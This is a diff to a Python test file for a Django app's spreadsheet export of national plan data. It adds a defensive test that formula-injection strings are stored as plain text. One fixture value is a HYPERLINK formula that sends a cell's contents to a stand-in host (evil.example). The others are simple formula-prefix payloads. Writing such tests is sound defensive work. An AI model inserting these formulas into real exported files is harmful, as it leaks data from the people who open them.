@@ -1,6 +1,7 @@
 """The national dataset (.xlsx) of the demo plans: one row per plan line, totals equal to the plans' sums."""
 
 import io
+import zipfile
 from collections import Counter, defaultdict
 from decimal import Decimal
 
@@ -13,6 +14,7 @@ from finance.models import ExpenditureAmount, ExpenditureLine, IncomeLine
 from governance.dataset import national_dataset
 from metrics.models import MetricAmbition, PlannedValue
 from plans.models import Plan, PlanningRound, User
+from tests.recalculation import error_cells, recalculate_with_libreoffice
 
 ONS = 1  # column of the ONS code on every sheet
 
@@ -104,3 +106,60 @@ def test_national_admin_downloads_the_dataset_in_a_fixed_number_of_queries(
     with django_assert_max_num_queries(15):
         page = client.get(reverse("governance:national_dashboard") + "?round=2014-15")
     assert page.status_code == 200
+
+
+# --- Formula injection ---------------------------------------------------------------------
+
+HOSTILE = {
+    "scheme name": '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
+    "scheme reference": "=1+1",
+    "income note": "+SUM(1,2)",
+    "local metric": "@SUM(1,2)",
+    "baseline period": "-1+2",
+}
+
+
+@pytest.fixture
+def submitted_plan_with_hostile_text(db):
+    """B&D's plan, submitted, with text typed as formulas in every kind of field the dataset shows."""
+    from finance.models import IncomeLine
+    from schemes.models import Scheme
+    from tests import factories as f
+    from tests.finance.demo_plans import build_barking_and_dagenham
+
+    plan, _ = build_barking_and_dagenham()
+    scheme = Scheme.objects.filter(plan=plan, expenditure_lines__isnull=False).first()
+    Scheme.objects.filter(pk=scheme.pk).update(name=HOSTILE["scheme name"], reference=HOSTILE["scheme reference"])
+    IncomeLine.objects.filter(pk=IncomeLine.objects.filter(plan=plan).first().pk).update(note=HOSTILE["income note"])
+    f.MetricAmbitionFactory(
+        plan=plan, local_name=HOSTILE["local metric"], baseline_period=HOSTILE["baseline period"], baseline_value=5
+    )
+    Plan.objects.filter(pk=plan.pk).update(status=Plan.Status.SUBMITTED)
+    return plan
+
+
+def test_formula_injection_in_the_national_dataset_is_stored_as_text_and_never_evaluated(
+    submitted_plan_with_hostile_text, tmp_path
+):
+    data = national_dataset(submitted_plan_with_hostile_text.round)
+
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any("<f>" in archive.read(n).decode() for n in sheets)  # the dataset has no formulas
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    found = {
+        cell.value: (ws.title, cell)
+        for ws in wb.worksheets
+        for row in ws.iter_rows()
+        for cell in row
+        if cell.value in HOSTILE.values()
+    }
+    assert set(found) == set(HOSTILE.values())
+    for text, (_, cell) in found.items():
+        assert cell.data_type == "s" and cell.quotePrefix, text
+
+    # LibreOffice, recalculating as a user opening the file would, shows each text as typed.
+    shown = recalculate_with_libreoffice(data, tmp_path)
+    for text, (sheet, cell) in found.items():
+        assert shown[sheet][cell.coordinate].value == text
+    assert error_cells(shown) == []
